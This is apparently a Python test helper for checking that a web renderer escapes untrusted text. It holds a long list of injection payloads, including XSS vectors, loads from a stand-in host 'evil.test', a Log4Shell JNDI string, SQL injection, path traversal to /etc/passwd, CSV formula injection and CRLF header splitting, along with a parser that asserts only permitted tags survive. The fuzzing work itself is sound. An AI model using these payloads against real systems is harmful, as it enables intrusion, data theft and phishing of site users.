"""What a browser would make of some HTML, and words that try to become markup."""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=//evil.test/x.png>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<math><mtext></p><style>@import'//evil.test'",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](http://evil.test/x.png)",
    "[1]: http://evil.test",
    "<!--",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></div></article></aside><h1>out</h1>",
    "<mark>not the quote</mark>",
    "<button data-event=cite>1</button>",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`${alert(1)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\x00<b>\x00",
    "\ud800<b>\udfff",
    "\u202egnp.exe\u202c",
    "\u2066\u202e[1]\u2069",
    "A" * 10_000,
    "\u0301" * 200,
    "\u2028<b>\u2029",
    # --- script elements, in odd cases and broken ---
    "<ScRiPt\n>window.__ran=1</sCrIpT >",
    "<script/x>window.__ran=1</script/x>",
    "<scr<script>ipt>window.__ran=1</scr</script>ipt>",
    "&lt;img src=x onerror=window.__ran=1&gt;",
    "&amp;lt;script&amp;gt;window.__ran=1&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__ran=1%3C/script%3E",
    "\uff1cscript\uff1ewindow.__ran=1\uff1c/script\uff1e",
    # --- handlers ---
    "<body onload=window.__ran=1>",
    "<details open ontoggle=window.__ran=1>",
    "<input autofocus onfocus=window.__ran=1>",
    "<video><source onerror=window.__ran=1></video>",
    "<p style=animation:blink onanimationstart=window.__ran=1>",
    # --- addresses that run or load ---
    '<a href="java\tscript:window.__ran=1">x</a>',
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<object data=//evil.test/x.swf></object><embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<form action=//evil.test/><button>send</button></form>",
    "<video poster=//evil.test/x.png><audio src=//evil.test/x.mp3></video>",
    "<img srcset='//evil.test/x.png 1x'>",
    # --- style ---
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.test/x.png)'>x</div>",
    "<div style=width:expression(window.__ran=1)>x</div>",
    # --- other kinds of markup ---
    "<svg><foreignObject><iframe src=//evil.test/></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.__ran=1>#x'/></svg>",
    "<svg><script href=//evil.test/x.js /></svg>",
    "<math href=javascript:window.__ran=1>x</math>",
    "<template><img src=x onerror=window.__ran=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__ran=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.__ran=1&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=window.__ran=1>'>",
    "<textarea></textarea><plaintext>",
    "<dialog open>Your password?</dialog>",
    "<h1 id=app><input id=question name=attributes>",
    # --- Markdown ---
    "[x][y]\n\n[y]: javascript:window.__ran=1",
    "<http://evil.test/> http://evil.test/ mail@evil.test",
    "<div>\n\n*x* <img src=//evil.test/x.png>\n\n</div>",
    "```html\n<script>window.__ran=1</script>\n```",
    # --- templates and markers ---
    "<%= 7*7 %> #{7*7} {% raw %} {{ 7*7 }} [[7*7]]",
    "{@html '<img src=x onerror=window.__ran=1>'} {#if 1}x{/if} {value}",
    '__i18n__{"__type__": "translation_metadata", "key": "ask"}',
    '{"__type__": "update", "visible": false, "value": "x"}',
    "${jndi:ldap://evil.test/x}",
    "%s%n%x%d {0} {name!r}",
    # --- names that mean something to programs ---
    "constructor",
    "__proto__",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "file.md?version=1#end",
    "NUL",
    "'; DROP TABLE conversations; --",
    '" OR "1"="1',
    '=HYPERLINK("http://evil.test","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\ttitle: x\n---\ntitle: y",
    "x\r\nLocation: http://evil.test\r\n\r\n<b>",
    # --- letters that break lines, directions and shapes ---
    "two\nlines\n\n\nand more" + "\n" * 40 + "end",
    "\u200b\u200c\u200d\ufeff<b>",
    "zero\u200bwidth\ufe0f\u034f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 60,
    "\u0627\u0644\u0642\u0641\u0632\u0629 <b> (1) [2] \u0627\u0644\u0643\u0628\u0631\u0649",
    "\u05e7\u05e4\u05d9\u05e6\u05d4" * 200,
    "\u200f\u202d\u202b\u202a\u2067\u2068",
    "Z" + "\u0348\u0300" * 90 + "\u0489" * 5 + "algo",
    "\ufdfd" * 60 + "\u2e3b" * 40 + "\U00012031" * 20,
    " ".join(f"{n}th" for n in range(300)),
    "\u00a0" * 300 + "x",
    "/".join(f"{n}.d-e_f" for n in range(150)),
    "\u5927\u8dc3\u8fdb" * 60,
    "\x1b[31mred\x07\x7f\x85\x9b",
    "\ue000\ufffe\U0010ffff\U000e0041",
]


class Page(HTMLParser):
    """What a browser would make of some HTML: elements, attributes and text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.open: list[str] = []
        self.text = ""
        self.marked = ""
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in ("input", "path"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        if "mark" in self.open:
            self.marked += data

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_decl(self, decl: str) -> None:
        self.comments.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.comments.append(data)


OWN_TAGS = {
    "article", "aside", "bdi", "button", "code", "details", "div", "h1", "h2", "h3", "h4", "header", "input", "li",
    "mark", "nav", "ol", "output", "p", "pre", "q", "section", "span", "strong", "summary", "time", "ul",
}  # fmt: skip
OWN_ATTRIBUTES = {
    "autocomplete",
    "class",
    "datetime",
    "dir",
    "disabled",
    "id",
    "lang",
    "open",
    "role",
    "tabindex",
    "type",
}


def assert_harmless(html: str) -> None:
    page = Page(html)
    assert not page.open
    assert not page.comments
    assert set(page.tags) <= OWN_TAGS
    assert {n for n, _ in page.attributes if not n.startswith(("data-", "aria-"))} <= OWN_ATTRIBUTES
    html.encode()
